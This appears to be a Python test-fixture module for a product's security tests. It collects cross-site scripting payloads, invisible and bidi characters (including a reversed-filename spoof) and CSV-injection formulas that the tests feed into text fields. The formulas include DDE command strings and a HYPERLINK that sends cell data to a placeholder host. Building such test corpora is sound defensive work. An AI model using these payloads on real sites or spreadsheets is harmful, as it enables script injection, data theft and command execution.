"""Hostile input: the corpus of cross-site scripting payloads, invisible characters and spreadsheet
formulas that the security tests push through every text field of the product.

Every script payload, if it ever ran, would call ``window.__xss++`` (or ``alert()``): the browser
test defines ``window.__xss = 0`` before any page script and fails when it moves or when a dialog
opens. ``tagged(tag, limit)`` builds the value of one field: a unique tag (so that a test can find
where the field is shown) followed by as many payloads as the field's length allows.
"""

from __future__ import annotations

from itertools import cycle, islice

# name → payload. Each one, rendered unescaped or unsanitized, would run script.
XSS: dict[str, str] = {
    # Plain HTML and attributes.
    "script": "<script>window.__xss++</script>",
    "img_onerror": '<img src=x onerror="window.__xss++">',
    "attr_double": '"><img src=x onerror=window.__xss++>',
    "attr_single": "'><svg onload=window.__xss++>",
    "attr_unquoted": " onmouseover=window.__xss++ autofocus onfocus=window.__xss++ x=",
    "details": "<details open ontoggle=window.__xss++>",
    "autofocus": "<input autofocus onfocus=window.__xss++>",
    "body_onload": "<body onload=window.__xss++>",
    "alert": "<img src=x onerror=alert(1)>",
    # Leaving the element or context a value may land in.
    "textarea_break": "</textarea><script>window.__xss++</script>",
    "title_break": "</title><script>window.__xss++</script>",
    "style_break": "</style><script>window.__xss++</script>",
    "script_break": "</script><script>window.__xss++</script>",
    "comment_break": "--><script>window.__xss++</script><!--",
    "option_break": "</option></select><img src=x onerror=window.__xss++>",
    # SVG and MathML (and the mutation tricks that fool sanitizers).
    "svg_script": "<svg><script>window.__xss++</script></svg>",
    "svg_animate": "<svg><animate onbegin=window.__xss++ attributeName=x dur=1s>",
    "svg_href": '<svg><a xlink:href="javascript:window.__xss++"><text x=9 y=9>x</text></a></svg>',
    "math_mxss": "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss++>",
    "noscript_mxss": '<noscript><p title="</noscript><img src=x onerror=window.__xss++>">',
    # Links and other URLs.
    "js_link": '<a href="javascript:window.__xss++">lien</a>',
    "js_link_tab": '<a href="jav&#x09;ascript:window.__xss++">lien</a>',
    "js_link_entities": '<a href="&#106;avascript:window.__xss++">lien</a>',
    "iframe_srcdoc": '<iframe srcdoc="<script>parent.__xss++</script>"></iframe>',
    "iframe_js": '<iframe src="javascript:parent.__xss++"></iframe>',
    "object": '<object data="javascript:window.__xss++"></object>',
    "embed": '<embed src="javascript:window.__xss++">',
    "form_action": '<form action="javascript:window.__xss++"><button>ok</button></form>',
    "meta_refresh": '<meta http-equiv="refresh" content="0;url=javascript:window.__xss++">',
    "base": '<base href="javascript:window.__xss++//">',
    # Markdown tricks (rich text goes through Markdown, then the nh3 allow-list).
    "md_link": "[x](javascript:alert(1))",
    "md_link_counter": "[clic](javascript:window.__xss++)",
    "md_image": "![x](javascript:window.__xss++)",
    "md_image_attr": '![x](x" onerror="window.__xss++)',
    "md_link_tab": "[x](jav&#x09;ascript:window.__xss++)",
    "md_autolink": "<javascript:window.__xss++>",
    "md_reference": "[x][r]\n\n[r]: javascript:window.__xss++",
    "md_data": "[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MrKzwvc2NyaXB0Pg==)",
    "md_vbscript": "[x](vbscript:msgbox(1))",
    "md_html_block": "<div>\n<img src=x onerror=window.__xss++>\n</div>",
    "md_code_span": "`<script>window.__xss++</script>`",
    # Attributes that front-end libraries act upon (htmx is on every page).
    "htmx_on": '<div hx-on:htmx:load="window.__xss++" hx-get="/" hx-trigger="load">x</div>',
    "htmx_vals": '<button hx-post="/" hx-vals=\'js:{a: window.__xss++}\' hx-trigger="load">x</button>',
    # Strings that look like templates (server-side or client-side).
    "django_template": "{{ request.user.password }}{% debug %}",
    "angular_template": "{{constructor.constructor('window.__xss++')()}}",
    "js_template": "${window.__xss++}",
}

# The short ones, for short fields (acronyms, units, phone numbers…).
SHORT = sorted(XSS.values(), key=len)

# Characters that change how text is displayed without showing themselves.
RLO = "\u202e"  # RIGHT-TO-LEFT OVERRIDE: the text after it is shown reversed
PDF = "\u202c"  # POP DIRECTIONAL FORMATTING (closes an override)
BIDI_CONTROLS = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
ZWSP = "\u200b"  # ZERO WIDTH SPACE
BOM = "\ufeff"  # ZERO WIDTH NO-BREAK SPACE (byte order mark)
WORD_JOINER = "\u2060"
ZERO_WIDTH = ZWSP + BOM + WORD_JOINER
INVISIBLE = BIDI_CONTROLS + ZERO_WIDTH
# « Comité logement » spelt with an invisible space, and a name that reads « gpj.exe » as « exe.jpg ».
LOOKALIKE = f"Comité{ZWSP}logement"
REVERSED = f"Rapport {RLO}gpj.exe"

# Spreadsheet formulas (CSV injection): each must come out of an export prefixed with « ' ».
FORMULAS = [
    '=HYPERLINK("https://exemple.invalid/?d="&A1,"Cliquez ici")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def tag_of(number: int) -> str:
    """The marker of one field: letters and digits only, so Markdown and HTML leave it alone."""
    return f"xsstag{number:03d}"


def tagged(tag: str, limit: int | None = None, *, start: int = 0) -> str:
    """``tag`` followed by payloads (from the ``start``-th on) up to ``limit`` characters; without
    a limit, by every payload of the corpus, one paragraph each."""
    payloads = list(XSS.values())
    if limit is None:
        ordered = payloads[start % len(payloads):] + payloads[:start % len(payloads)]
        return tag + "\n\n" + "\n\n".join(ordered)
    text = tag
    for payload in islice(cycle([*payloads[start % len(payloads):], *payloads]), len(payloads)):
        if len(text) + 1 + len(payload) <= limit:
            text += " " + payload
    if text == tag:  # nothing fitted in order: take the shortest that fits
        for payload in SHORT:
            if len(tag) + 1 + len(payload) <= limit:
                return f"{tag} {payload}"
    return text


class Tags:
    """Hands out one tag per field and remembers which field it is: ``tags("Organization.name")``."""

    def __init__(self):
        self.fields: dict[str, str] = {}

    def __call__(self, field: str) -> str:
        tag = tag_of(len(self.fields) + 1)
        self.fields[tag] = field
        return tag

    def value(self, field: str, limit: int | None = None) -> str:
        return tagged(self(field), limit, start=len(self.fields) * 3)
